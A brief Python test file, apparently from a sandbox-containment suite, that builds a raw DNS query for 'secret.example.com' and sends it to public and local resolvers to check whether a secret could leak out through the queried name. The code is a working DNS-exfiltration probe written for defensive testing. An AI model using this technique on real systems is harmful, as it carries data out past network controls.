# A secret can travel in the name that is asked for.
# expect: success
# stdout: CONTAINED
import socket
import struct

question = struct.pack(">HHHHHH", 4711, 0x0100, 1, 0, 0, 0) + b"\x06secret\x07example\x03com\x00\x00\x01\x00\x01"
for server in ("8.8.8.8", "1.1.1.1", "127.0.0.1", "127.0.0.11", "127.0.0.53"):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.settimeout(0.2)
            sender.sendto(question, (server, 53))
            print("ESCAPED: an answer from", server, sender.recv(512))
    except OSError:
        pass
print("CONTAINED")
